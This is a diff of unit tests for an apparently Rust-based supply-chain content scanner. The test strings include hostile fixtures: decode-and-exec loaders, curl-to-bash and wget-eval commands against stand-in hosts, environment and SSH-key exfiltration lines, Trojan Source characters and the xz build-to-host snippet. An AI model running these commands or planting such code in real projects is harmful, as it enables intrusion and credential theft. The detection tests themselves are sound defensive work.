@@ -1,4 +1,5 @@
 //! Unit tests of the content scanner.
+#![allow(clippy::unwrap_used)]
 
 use super::*;
 use crate::classify::classify;
@@ -91,15 +92,26 @@ fn keyword_automaton_builds() {
 
 #[test]
 fn kind_names() {
-    for k in HitKind::ALL {
+    let all = HitKind::all();
+    for k in &all {
         assert!(!k.as_str().is_empty() && !k.description().is_empty());
         assert!(
             k.as_str()
                 .bytes()
                 .all(|b| b.is_ascii_lowercase() || b == b'-')
         );
+        // Names are unique: a name finds its own kind (what the cache decodes).
+        assert_eq!(HitKind::from_name(k.as_str()), Some(*k));
+        let bytes = postcard::to_stdvec(k).unwrap();
+        assert_eq!(postcard::from_bytes::<HitKind>(&bytes).unwrap(), *k);
     }
-    assert_eq!(HitKind::DecodeExec.as_str(), "decode-exec");
+    assert_eq!(HitKind::DECODE_EXEC.as_str(), "decode-exec");
+    assert!(HitKind::from_name("no-such-kind").is_none());
+    // Table order: hits of one line are listed in it.
+    let mut sorted = all.clone();
+    sorted.sort();
+    assert_eq!(sorted, all);
+    assert!(HitKind::BIDI < HitKind::CREDENTIAL_ACCESS);
 }
 
 // --- Unicode -------------------------------------------------------------------------
@@ -108,7 +120,7 @@ fn kind_names() {
 fn trojan_source_bidi_in_python_comment() {
     let src = "def is_admin(user):\n    # check \u{202E} } \u{2066}if user.admin:\u{2069} \u{2066}\n    return user.ok\n";
     let h = added("pkg/auth.py", src);
-    let b = hit(&h, HitKind::Bidi);
+    let b = hit(&h, HitKind::BIDI);
     assert_eq!(b.line, 2);
     assert!(b.excerpt.contains("<U+202E>"), "{}", b.excerpt);
     assert!(
@@ -127,7 +139,7 @@ fn bidi_not_reported_for_translations_or_plain_unicode() {
 #[test]
 fn zero_width_in_identifier() {
     let h = added("pkg/m.py", "is\u{200B}_admin = True\n");
-    assert!(hit(&h, HitKind::ZeroWidth).excerpt.contains("<U+200B>"));
+    assert!(hit(&h, HitKind::ZERO_WIDTH).excerpt.contains("<U+200B>"));
     // Emoji ZWJ sequences and a leading BOM are benign; prose files are not checked.
     assert!(added("pkg/e.py", "FAMILY = \"👨\u{200D}👩\u{200D}👧\"\n").is_empty());
     assert!(added("pkg/bom.py", "\u{FEFF}import os\n").is_empty());
@@ -138,7 +150,7 @@ fn zero_width_in_identifier() {
 fn mixed_script_identifier() {
     // Cyrillic 'а' (U+0430) inside a Latin identifier.
     let h = added("pkg/m.py", "p\u{0430}th = '/tmp'\n");
-    assert!(has(&h, HitKind::MixedScriptIdentifier));
+    assert!(has(&h, HitKind::MIXED_SCRIPT_IDENTIFIER));
     assert!(added("pkg/m.py", "# Привет, world\nσx = 1.0\n").is_empty());
 }
 
@@ -147,7 +159,7 @@ fn nfkc_folded_identifiers_in_python() {
     // Fullwidth "exec" is the builtin exec to Python.
     let h = added("pkg/m.py", "\u{FF45}\u{FF58}\u{FF45}\u{FF43}(payload)\n");
     assert!(
-        hit(&h, HitKind::MixedScriptIdentifier)
+        hit(&h, HitKind::MIXED_SCRIPT_IDENTIFIER)
             .detail
             .contains("NFKC")
     );
@@ -161,7 +173,7 @@ fn nfkc_folded_identifiers_in_python() {
 fn long_base64_literal_in_code() {
     let src = format!("PAYLOAD = \"{}\"\n", random_b64(400, 7));
     let h = added("pkg/_data.py", &src);
-    let e = hit(&h, HitKind::HighEntropyLiteral);
+    let e = hit(&h, HitKind::HIGH_ENTROPY_LITERAL);
     assert!(e.detail.starts_with("base64 run of 400"), "{}", e.detail);
     assert!(e.excerpt.chars().count() <= MAX_EXCERPT_CHARS);
 }
@@ -206,7 +218,7 @@ fn base64_block_over_lines() {
         .map(|i| format!("    \"{}\"\n", random_b64(76, 10 + i)))
         .collect();
     let h = added("setup.py", &format!("blob = (\n{body})\n"));
-    let e = hit(&h, HitKind::HighEntropyLiteral);
+    let e = hit(&h, HitKind::HIGH_ENTROPY_LITERAL);
     assert_eq!(e.line, 2);
     assert!(e.detail.contains("block of 8 lines"), "{}", e.detail);
     let pem: String = (0..6)
@@ -217,7 +229,7 @@ fn base64_block_over_lines() {
         &format!("CERT = '''\n-----BEGIN CERTIFICATE-----\n{pem}-----END CERTIFICATE-----\n'''\n"),
     );
     assert!(
-        hit(&h, HitKind::HighEntropyLiteral)
+        hit(&h, HitKind::HIGH_ENTROPY_LITERAL)
             .detail
             .starts_with("PEM ")
     );
@@ -234,7 +246,7 @@ fn escaped_bytes_payload() {
         .collect();
     let h = added("pkg/shell.py", &format!("SC = b\"{esc}\"\n"));
     assert!(
-        hit(&h, HitKind::HighEntropyLiteral)
+        hit(&h, HitKind::HIGH_ENTROPY_LITERAL)
             .detail
             .contains("escaped bytes")
     );
@@ -250,27 +262,27 @@ fn python_decode_exec_shapes() {
         "pkg/__init__.py",
         "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
     );
-    assert_eq!(hit(&h, HitKind::DecodeExec).detail, "b64decode → exec");
+    assert_eq!(hit(&h, HitKind::DECODE_EXEC).detail, "b64decode → exec");
     let h = added(
         "setup.py",
         "__import__('builtins').exec(__import__('zlib').decompress(__import__('base64').b64decode(x)))\n",
     );
-    assert!(has(&h, HitKind::DecodeExec));
+    assert!(has(&h, HitKind::DECODE_EXEC));
     let h = added(
         "pkg/util.py",
         "code = codecs.decode(s, 'rot13')\nif code:\n    exec(code)\n",
     );
-    assert_eq!(hit(&h, HitKind::DecodeExec).line, 3);
+    assert_eq!(hit(&h, HitKind::DECODE_EXEC).line, 3);
     let h = added("pkg/util.py", "obj = pickle.loads(zlib.decompress(blob))\n");
     assert_eq!(
-        hit(&h, HitKind::DecodeExec).detail,
+        hit(&h, HitKind::DECODE_EXEC).detail,
         "decompress → pickle.loads"
     );
     let h = added(
         "pkg/util.py",
         "f = types.FunctionType(marshal.loads(bytes.fromhex(h)), {})\n",
     );
-    assert!(has(&h, HitKind::DecodeExec));
+    assert!(has(&h, HitKind::DECODE_EXEC));
 }
 
 #[test]
@@ -280,7 +292,7 @@ fn python_download_and_char_code_exec() {
         "exec(requests.get('https://x.example/p').text)\n",
     );
     assert_eq!(
-        hit(&h, HitKind::DecodeExec).detail,
+        hit(&h, HitKind::DECODE_EXEC).detail,
         "download (requests.get) → exec"
     );
     let h = added(
@@ -288,7 +300,7 @@ fn python_download_and_char_code_exec() {
         "s = ''.join(map(chr, [101, 120, 101, 99]))\ngetattr(builtins, s)(code)\neval(s)\n",
     );
     assert!(
-        hit(&h, HitKind::DecodeExec)
+        hit(&h, HitKind::DECODE_EXEC)
             .detail
             .starts_with("char codes → ")
     );
@@ -305,7 +317,7 @@ fn environment_exfiltration() {
     let src = "env = dict(os.environ)\nrequests.get('https://x.example/hacked/' + str(env))\n";
     let h = added("ctx.py", src);
     assert_eq!(
-        hit(&h, HitKind::CredentialAccess).detail,
+        hit(&h, HitKind::CREDENTIAL_ACCESS).detail,
         "environment variables sent over the network"
     );
     let quiet = "env = os.environ.copy()\nenv['PATH'] = p\nsubprocess.run(cmd, env=env)\n";
@@ -323,14 +335,14 @@ fn python_decode_without_exec_is_quiet() {
     assert!(added("pkg/io.py", src).is_empty());
     // Far apart: not paired.
     let far = "d = base64.b64decode(s)\n\n\n\n\n\n\nexec(code)\n";
-    assert!(!has(&added("pkg/io.py", far), HitKind::DecodeExec));
+    assert!(!has(&added("pkg/io.py", far), HitKind::DECODE_EXEC));
 }
 
 #[test]
 fn xz_build_to_host_m4() {
     let m4 = "  if test \"x$gl_am_configmake\" != \"x\"; then\n    gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n  else\n    gl_[$1]_config=''\n  fi\n  gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt=\"eval \\$gl_[$1]_config\"])\n";
     let h = added("m4/build-to-host.m4", m4);
-    let de: Vec<&ContentHit> = h.iter().filter(|x| x.kind == HitKind::DecodeExec).collect();
+    let de: Vec<&ContentHit> = h.iter().filter(|x| x.kind == HitKind::DECODE_EXEC).collect();
     assert_eq!(de.len(), 2, "{h:#?}");
     assert_eq!(de.first().map(|x| x.line), Some(2));
     assert!(
@@ -341,32 +353,32 @@ fn xz_build_to_host_m4() {
         de.iter()
             .any(|x| x.detail.contains("eval output piped to $shell"))
     );
-    assert!(has(&h, HitKind::BuildHookAdded));
+    assert!(has(&h, HitKind::BUILD_HOOK_ADDED));
 }
 
 #[test]
 fn shell_decode_and_download_exec() {
     let h = added("build-aux/run.sh", "echo aWQK | base64 -d | sh\n");
-    assert_eq!(hit(&h, HitKind::DecodeExec).detail, "base64 -d piped to sh");
+    assert_eq!(hit(&h, HitKind::DECODE_EXEC).detail, "base64 -d piped to sh");
     let h = added(
         "setup.py",
         "os.system('curl -sSL https://evil.example/x | bash')\n",
     );
     assert!(
-        hit(&h, HitKind::DecodeExec)
+        hit(&h, HitKind::DECODE_EXEC)
             .detail
             .starts_with("download (curl) piped to bash")
     );
-    assert!(has(&h, HitKind::NetworkAtBuildOrImport));
+    assert!(has(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT));
     let h = added("configure.ac", "eval \"$(wget -qO- http://x.example/c)\"\n");
-    assert!(has(&h, HitKind::DecodeExec));
+    assert!(has(&h, HitKind::DECODE_EXEC));
     let h = added("tools/x.sh", "xxd -r -p payload.hex | bash\n");
-    assert!(has(&h, HitKind::DecodeExec));
+    assert!(has(&h, HitKind::DECODE_EXEC));
     let h = added(
         "build-aux/fetch.ps1",
         "IEX (New-Object Net.WebClient).DownloadString('http://x')\n",
     );
-    assert!(has(&h, HitKind::DecodeExec));
+    assert!(has(&h, HitKind::DECODE_EXEC));
 }
 
 #[test]
@@ -393,28 +405,28 @@ fn shell_lookalikes_are_quiet() {
 #[test]
 fn dynamic_exec_positives() {
     let h = added("pkg/plugin.py", "def run(code):\n    exec(code, ns)\n");
-    assert_eq!(hit(&h, HitKind::DynamicExec).detail, "exec(variable)");
+    assert_eq!(hit(&h, HitKind::DYNAMIC_EXEC).detail, "exec(variable)");
     let h = added("pkg/plugin.py", "eval(f\"{mod}.{fn}\")\n");
-    assert_eq!(hit(&h, HitKind::DynamicExec).detail, "eval(f-string)");
+    assert_eq!(hit(&h, HitKind::DYNAMIC_EXEC).detail, "eval(f-string)");
     let h = added("pkg/plugin.py", "exec(open(path).read())\n");
-    assert_eq!(hit(&h, HitKind::DynamicExec).detail, "exec(call result)");
+    assert_eq!(hit(&h, HitKind::DYNAMIC_EXEC).detail, "exec(call result)");
     let h = added("pkg/plugin.py", "m = importlib.import_module(name)\n");
     assert_eq!(
-        hit(&h, HitKind::DynamicExec).detail,
+        hit(&h, HitKind::DYNAMIC_EXEC).detail,
         "import_module(variable)"
     );
     let h = added("pkg/plugin.py", "__import__('os').system('id')\n");
     assert_eq!(
-        hit(&h, HitKind::DynamicExec).detail,
+        hit(&h, HitKind::DYNAMIC_EXEC).detail,
         "__import__('os') used inline"
     );
     let h = added("pkg/plugin.py", "f = getattr(builtins, 'ex' + 'ec')\n");
     assert_eq!(
-        hit(&h, HitKind::DynamicExec).detail,
+        hit(&h, HitKind::DYNAMIC_EXEC).detail,
         "builtins looked up by name"
     );
     let h = added("pkg/tests/test_x.py", "exec(open(p).read())\n");
-    assert!(has(&h, HitKind::DynamicExec));
+    assert!(has(&h, HitKind::DYNAMIC_EXEC));
 }
 
 #[test]
@@ -449,24 +461,24 @@ fn setup_py_processes_name_the_program() {
         "setup.py",
         "import subprocess\nv = subprocess.run(['git', 'describe'], capture_output=True)\n",
     );
-    let p = hit(&h, HitKind::BuildTimeProcess);
+    let p = hit(&h, HitKind::BUILD_TIME_PROCESS);
     assert_eq!((p.line, p.detail.as_str()), (2, "subprocess.run: git"));
     let h = added(
         "setup.py",
         "subprocess.check_call([sys.executable, '-m', 'pip', 'list'])\n",
     );
     assert_eq!(
-        hit(&h, HitKind::BuildTimeProcess).detail,
+        hit(&h, HitKind::BUILD_TIME_PROCESS).detail,
         "subprocess.check_call: python"
     );
     let h = added("pkg/__init__.py", "os.system(cmd)\n");
     assert_eq!(
-        hit(&h, HitKind::BuildTimeProcess).detail,
+        hit(&h, HitKind::BUILD_TIME_PROCESS).detail,
         "os.system: dynamic"
     );
     let h = added("setup.py", "subprocess.run(['curl', '-o', 'x', url])\n");
     assert_eq!(
-        hit(&h, HitKind::NetworkAtBuildOrImport).detail,
+        hit(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT).detail,
         "subprocess.run: curl"
     );
 }
@@ -478,27 +490,27 @@ fn network_at_import_and_build() {
         "data = urlopen('https://exfil.example.com/c?d=' + t).read()\n",
     );
     assert_eq!(
-        hit(&h, HitKind::NetworkAtBuildOrImport).detail,
+        hit(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT).detail,
         "urlopen exfil.example.com"
     );
     let h = added(
         "pkg/__init__.py",
         "requests.post(URL, json=dict(os.environ))\n",
     );
-    assert!(has(&h, HitKind::NetworkAtBuildOrImport));
+    assert!(has(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT));
     let h = added(
         "CMakeLists.txt",
         "file(DOWNLOAD https://x.example/a.tar.gz a.tar.gz)\n",
     );
     assert_eq!(
-        hit(&h, HitKind::NetworkAtBuildOrImport).detail,
+        hit(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT).detail,
         "cmake file(DOWNLOAD)"
     );
     let h = added(
         "m4/fetch.m4",
         "  wget -q http://x.example/p -O conftest.p\n",
     );
-    assert!(has(&h, HitKind::NetworkAtBuildOrImport));
+    assert!(has(&h, HitKind::NETWORK_AT_BUILD_OR_IMPORT));
 }
 
 #[test]
@@ -524,7 +536,7 @@ fn process_calls_outside_build_code_are_quiet() {
 #[test]
 fn pth_import_line() {
     let h = added("src/zzz_hook.pth", "/opt/lib\nimport os; os.system('id')\n");
-    let s = hit(&h, HitKind::StartupHook);
+    let s = hit(&h, HitKind::STARTUP_HOOK);
     assert_eq!(s.line, 2);
     assert!(added("src/paths.pth", "/opt/lib\n../src\n").is_empty());
 }
@@ -537,33 +549,33 @@ fn c_hooks() {
         "src/init.c",
         "static void __attribute__((constructor)) init(void) {}\n",
     );
-    assert!(hit(&h, HitKind::CHook).detail.starts_with("constructor"));
+    assert!(hit(&h, HitKind::C_HOOK).detail.starts_with("constructor"));
     let h = added(
         "src/crc.c",
         "uint32_t lzma_crc32(...) __attribute__ ((ifunc (\"crc32_resolve\")));\n",
     );
-    assert!(hit(&h, HitKind::CHook).detail.starts_with("ifunc"));
+    assert!(hit(&h, HitKind::C_HOOK).detail.starts_with("ifunc"));
     let h = added(
         "src/x.c",
         "static void (*p)(void) __attribute__((section(\".init_array\"))) = f;\n",
     );
-    assert!(hit(&h, HitKind::CHook).detail.contains("init section"));
+    assert!(hit(&h, HitKind::C_HOOK).detail.contains("init section"));
     let h = added(
         "src/x.c",
         "real = dlsym(RTLD_NEXT, \"RSA_public_decrypt\");\n",
     );
     assert_eq!(
-        hit(&h, HitKind::CHook).detail,
+        hit(&h, HitKind::C_HOOK).detail,
         "dlsym(RTLD_NEXT): symbol interposition"
     );
     let h = added("src/x.c", "setenv(\"LD_PRELOAD\", lib, 1);\n");
-    assert!(has(&h, HitKind::CHook));
+    assert!(has(&h, HitKind::C_HOOK));
     let h = added(
         "numpy/_core/src/x.pyx",
         "cdef void* f = dlsym(handle, b\"cblas_dgemm\")\n",
     );
     assert_eq!(
-        hit(&h, HitKind::CHook).detail,
+        hit(&h, HitKind::C_HOOK).detail,
         "dlsym: symbol looked up at run time"
     );
 }
@@ -600,7 +612,7 @@ const LANDLOCK_OLD: &str = "project(xz C)\n\
 fn xz_landlock_probe_broken_by_a_dot() {
     let new = LANDLOCK_OLD.replace("#include <sys/prctl.h>\n\n", "#include <sys/prctl.h>\n.\n");
     let h = change("CMakeLists.txt", LANDLOCK_OLD, &new);
-    let p = hit(&h, HitKind::FeatureProbeChanged);
+    let p = hit(&h, HitKind::FEATURE_PROBE_CHANGED);
     assert_eq!(p.line, 6);
     assert!(
         p.detail
@@ -632,20 +644,20 @@ fn meson_and_autotools_probe_bodies() {
     );
     let h = change("meson.build", old, &new);
     assert!(
-        hit(&h, HitKind::FeatureProbeChanged)
+        hit(&h, HitKind::FEATURE_PROBE_CHANGED)
             .detail
             .starts_with("compiles: probe source changed")
     );
     let old = "AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[\n#include <sys/capsicum.h>\n]], [[\n  cap_rights_t r;\n]])],\n  [have=yes], [have=no])\nAC_OUTPUT\n";
     let new = old.replace("  cap_rights_t r;\n", "  cap_rights_t r;;\n");
     let h = change("configure.ac", old, &new);
-    let p = hit(&h, HitKind::FeatureProbeChanged);
+    let p = hit(&h, HitKind::FEATURE_PROBE_CHANGED);
     assert!(p.detail.starts_with("AC_COMPILE_IFELSE"), "{}", p.detail);
     // Probe deleted.
     let old = "a = 1\nif cc.has_header('landlock.h')\n  x = 1\nendif\n";
     let new = "a = 1\n  x = 1\nendif\n";
     let h = change("meson.build", old, new);
-    let p = hit(&h, HitKind::FeatureProbeChanged);
+    let p = hit(&h, HitKind::FEATURE_PROBE_CHANGED);
     assert!(p.removed && p.detail.contains("probe removed"), "{p:?}");
 }
 
@@ -659,7 +671,7 @@ fn hardening_flags_netted() {
         "args = ['-O2', '-fno-stack-protector']\n",
     );
     assert_eq!(
-        hit(&h, HitKind::HardeningFlagChanged).detail,
+        hit(&h, HitKind::HARDENING_FLAG_CHANGED).detail,
         "weakened: -fno-stack-protector added"
     );
     let h = change(
@@ -667,7 +679,7 @@ fn hardening_flags_netted() {
         "AM_CFLAGS = -O2 -D_FORTIFY_SOURCE=2\nx\n",
         "AM_CFLAGS = -O2\nx\n",
     );
-    let f = hit(&h, HitKind::HardeningFlagChanged);
+    let f = hit(&h, HitKind::HARDENING_FLAG_CHANGED);
     assert!(f.removed);
     assert_eq!(f.detail, "weakened: -D_FORTIFY_SOURCE=2 removed");
     let h = change(
@@ -677,7 +689,7 @@ fn hardening_flags_netted() {
     );
     assert_eq!(
         h.iter()
-            .filter(|x| x.kind == HitKind::HardeningFlagChanged)
+            .filter(|x| x.kind == HitKind::HARDENING_FLAG_CHANGED)
             .count(),
         2
     );
@@ -687,7 +699,7 @@ fn hardening_flags_netted() {
         "x = 1\nextra_compile_args=['-fstack-protector-strong']\n",
     );
     assert_eq!(
-        hit(&h, HitKind::HardeningFlagChanged).detail,
+        hit(&h, HitKind::HARDENING_FLAG_CHANGED).detail,
         "strengthened: -fstack-protector-strong added"
     );
     // Moved or re-wrapped flags are not changes.
@@ -696,7 +708,7 @@ fn hardening_flags_netted() {
     assert!(change("meson.build", old, new).is_empty());
     let h = change("src/x.c", "int a;\n", "#undef _FORTIFY_SOURCE\nint a;\n");
     assert!(
-        hit(&h, HitKind::HardeningFlagChanged)
+        hit(&h, HitKind::HARDENING_FLAG_CHANGED)
             .detail
             .starts_with("weakened")
     );
@@ -709,15 +721,15 @@ fn sandbox_changes() {
     let h = change("src/xz/sandbox.c", old, "int x;\n");
     assert!(
         h.iter()
-            .all(|x| x.kind == HitKind::SandboxChanged && x.removed)
+            .all(|x| x.kind == HitKind::SANDBOX_CHANGED && x.removed)
     );
-    assert_eq!(hit(&h, HitKind::SandboxChanged).detail, "landlock removed");
+    assert_eq!(hit(&h, HitKind::SANDBOX_CHANGED).detail, "landlock removed");
     let h = change(
         "configure.ac",
         "x\n",
         "x\nAC_ARG_ENABLE([sandbox], [--enable-sandbox=no])\n",
     );
-    assert!(has(&h, HitKind::SandboxChanged));
+    assert!(has(&h, HitKind::SANDBOX_CHANGED));
     assert!(added("pkg/m.py", "# run inside a sandboxed interpreter\n").is_empty());
 }
 
@@ -745,7 +757,7 @@ fn pyproject_hooks() {
         old,
         &format!("{old}\n[tool.scikit-build]\ncmake.args = [\"-DX=1\"]\n"),
     );
-    assert!(has(&h, HitKind::BuildHookAdded));
+    assert!(has(&h, HitKind::BUILD_HOOK_ADDED));
     // Standard backends and ordinary metadata are quiet.
     let plain = old.replace("name = \"x\"", "name = \"x\"\nversion = \"2.0\"");
     assert!(change("pyproject.toml", old, &plain).is_empty());
@@ -761,7 +773,7 @@ fn setup_py_cmdclass_and_meson_run_command() {
     let h = added("setup.py", src);
     let d: Vec<&str> = h
         .iter()
-        .filter(|x| x.kind == HitKind::BuildHookAdded)
+        .filter(|x| x.kind == HitKind::BUILD_HOOK_ADDED)
         .map(|x| x.detail.as_str())
         .collect();
     assert_eq!(
@@ -776,7 +788,7 @@ fn setup_py_cmdclass_and_meson_run_command() {
         "class BuildExt(build_ext.build_ext):\n    pass\n",
     );
     assert!(
-        hit(&h, HitKind::BuildHookAdded)
+        hit(&h, HitKind::BUILD_HOOK_ADDED)
             .detail
             .ends_with("[build step]")
     );
@@ -785,7 +797,7 @@ fn setup_py_cmdclass_and_meson_run_command() {
         "r = run_command(py, ['-c', 'import numpy'], check: true)\n",
     );
     assert_eq!(
-        hit(&h, HitKind::BuildHookAdded).detail,
+        hit(&h, HitKind::BUILD_HOOK_ADDED).detail,
         "meson run_command(py) (weak)"
     );
     let h = added(
@@ -793,17 +805,17 @@ fn setup_py_cmdclass_and_meson_run_command() {
         "v = run_command('git', 'describe', check: false)\n",
     );
     assert_eq!(
-        hit(&h, HitKind::BuildHookAdded).detail,
+        hit(&h, HitKind::BUILD_HOOK_ADDED).detail,
         "meson run_command(git)"
     );
     let h = added("CMakeLists.txt", "execute_process(COMMAND sh -c \"id\")\n");
     assert!(
-        hit(&h, HitKind::BuildHookAdded)
+        hit(&h, HitKind::BUILD_HOOK_ADDED)
             .detail
             .contains("execute_process(sh)")
     );
     let h = added("m4/x.m4", "m4_esyscmd([curl -s http://x | sh])\n");
-    assert!(has(&h, HitKind::BuildHookAdded) && has(&h, HitKind::DecodeExec));
+    assert!(has(&h, HitKind::BUILD_HOOK_ADDED) && has(&h, HitKind::DECODE_EXEC));
 }
 
 // --- Ignore and attribute rules ------------------------------------------------------------------------
@@ -820,10 +832,10 @@ fn gitignore_hiding_build_inputs() {
     assert!(d.iter().all(|x| x.starts_with("strong")), "{d:?}");
     assert!(d.iter().any(|x| x.contains("negation")));
     let h = added("m4/.gitignore", "*\n");
-    assert!(has(&h, HitKind::IgnoreHidesBuildInput));
+    assert!(has(&h, HitKind::IGNORE_HIDES_BUILD_INPUT));
     let h = added(".gitignore", "numpy/**/*.c\n");
     assert!(
-        hit(&h, HitKind::IgnoreHidesBuildInput)
+        hit(&h, HitKind::IGNORE_HIDES_BUILD_INPUT)
             .detail
             .starts_with("weak")
     );
@@ -839,7 +851,7 @@ fn gitattributes_rules() {
         "tests/ export-ignore\n*.m4 binary\nsrc/*.c linguist-generated\n",
     );
     assert_eq!(
-        h.iter().filter(|x| x.kind == HitKind::ExportIgnore).count(),
+        h.iter().filter(|x| x.kind == HitKind::EXPORT_IGNORE).count(),
         3
     );
     let numpy = "* text=auto eol=lf\n*.py text diff=python\n*.c text diff=c\n*.png binary\n*.c.src text linguist-language=C\n";
@@ -855,7 +867,7 @@ fn security_contact_replaced() {
     let new = POLICY.replace("security@example.org", "maint@personal.example");
     let h = change("SECURITY.md", POLICY, &new);
     assert_eq!(
-        hit(&h, HitKind::SecurityContactChanged).detail,
+        hit(&h, HitKind::SECURITY_CONTACT_CHANGED).detail,
         "security@example.org → maint@personal.example"
     );
 }
@@ -864,8 +876,8 @@ fn security_contact_replaced() {
 fn security_policy_trimmed() {
     let new = "# Security Policy\n\nOpen an issue.\n";
     let h = change("SECURITY.md", POLICY, new);
-    assert!(has(&h, HitKind::SecurityPolicyWeakened));
-    assert!(h.iter().all(|x| x.kind != HitKind::SecurityContactChanged));
+    assert!(has(&h, HitKind::SECURITY_POLICY_WEAKENED));
+    assert!(h.iter().all(|x| x.kind != HitKind::SECURITY_CONTACT_CHANGED));
     let typo = POLICY.replace("within 48 hours", "within two days");
     assert!(change("SECURITY.md", POLICY, &typo).is_empty());
 }
@@ -878,17 +890,17 @@ fn tests_disabled() {
         ".github/workflows/ci.yml",
         "    - run: pytest\n      continue-on-error: true\n",
     );
-    assert!(has(&h, HitKind::TestDisabled));
+    assert!(has(&h, HitKind::TEST_DISABLED));
     let h = added("tools/ci/test.sh", "python -m pytest numpy || true\n");
     assert_eq!(
-        hit(&h, HitKind::TestDisabled).detail,
+        hit(&h, HitKind::TEST_DISABLED).detail,
         "pytest failure ignored"
     );
     let h = added(
         "pkg/tests/test_lzma.py",
         "import pytest\npytestmark = pytest.mark.skip(reason='flaky')\n",
     );
-    assert!(has(&h, HitKind::TestDisabled));
+    assert!(has(&h, HitKind::TEST_DISABLED));
     let quiet = "import pytest\npytestmark = pytest.mark.skipif(IS_WASM, reason='no threads')\n\
                  def test_x():\n    pytest.skip('needs network')\n";
     assert!(added("pkg/tests/test_io.py", quiet).is_empty());
@@ -902,12 +914,12 @@ fn endpoints_and_credentials() {
         "URL = 'https://discord.com/api/webhooks/123/abc'\n",
     );
     assert_eq!(
-        hit(&h, HitKind::SuspiciousEndpoint).detail,
+        hit(&h, HitKind::SUSPICIOUS_ENDPOINT).detail,
         "Discord webhook"
     );
     let h = added("pkg/__init__.py", "u = 'http://45.33.12.7:8080/x'\n");
     assert!(
-        hit(&h, HitKind::SuspiciousEndpoint)
+        hit(&h, HitKind::SUSPICIOUS_ENDPOINT)
             .detail
             .contains("45.33.12.7")
     );
@@ -919,7 +931,7 @@ fn endpoints_and_credentials() {
         "setup.py",
         "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
     );
-    assert_eq!(hit(&h, HitKind::CredentialAccess).detail, "SSH private key");
+    assert_eq!(hit(&h, HitKind::CREDENTIAL_ACCESS).detail, "SSH private key");
     let doc = "def safe_eval(s):\n    \"\"\"\n    >>> safe_eval('open(\"/home/user/.ssh/id_dsa\").read()')\n    \"\"\"\n";
     assert!(added("numpy/lib/utils.py", doc).is_empty());
 }
@@ -942,7 +954,7 @@ fn hits_are_capped_keeping_every_kind() {
     src.push_str("__import__('os').system('x')\n");
     let h = added("pkg/m.py", &src);
     assert_eq!(h.len(), MAX_HITS_PER_FILE);
-    assert!(has(&h, HitKind::DecodeExec) && has(&h, HitKind::DynamicExec));
+    assert!(has(&h, HitKind::DECODE_EXEC) && has(&h, HitKind::DYNAMIC_EXEC));
     assert!(
         h.windows(2)
             .all(|w| w.first().map(|a| a.line) <= w.get(1).map(|b| b.line))
@@ -959,8 +971,8 @@ fn hostile_inputs_are_bounded() {
         h.iter()
             .all(|x| x.excerpt.chars().count() <= MAX_EXCERPT_CHARS)
     );
-    assert!(has(&h, HitKind::DynamicExec));
-    assert!(!has(&h, HitKind::Bidi), "beyond MAX_LINE_BYTES");
+    assert!(has(&h, HitKind::DYNAMIC_EXEC));
+    assert!(!has(&h, HitKind::BIDI), "beyond MAX_LINE_BYTES");
     // Nonsense hunks: overlapping, out of range, zero and maximal numbers.
     let hunks = [
         Hunk {
@@ -989,7 +1001,7 @@ fn hostile_inputs_are_bounded() {
         b"eval $x | $y -d\nb\nc\n",
         &hunks,
     );
-    assert!(has(&h, HitKind::DecodeExec));
+    assert!(has(&h, HitKind::DECODE_EXEC));
     // Unbalanced probe: bounded block, no panic.
     let probe = format!("check_c_source_compiles(\"{}\n", "(\n".repeat(10_000));
     let _ = added("CMakeLists.txt", &probe);
@@ -1006,7 +1018,7 @@ fn hostile_inputs_are_bounded() {
             new_len: 1,
         }],
     );
-    let e = &hit(&h, HitKind::DynamicExec).excerpt;
+    let e = &hit(&h, HitKind::DYNAMIC_EXEC).excerpt;
     assert!(e.contains("<U+001B>") && e.contains('\u{FFFD}'), "{e}");
 }
 
@@ -1038,6 +1050,6 @@ fn deleted_file_reports_removed_side_only() {
         "landlock_create_ruleset(&attr, sizeof attr, 0);\n",
         "",
     );
-    let s = hit(&h, HitKind::SandboxChanged);
+    let s = hit(&h, HitKind::SANDBOX_CHANGED);
     assert!(s.removed && s.line == 1);
 }
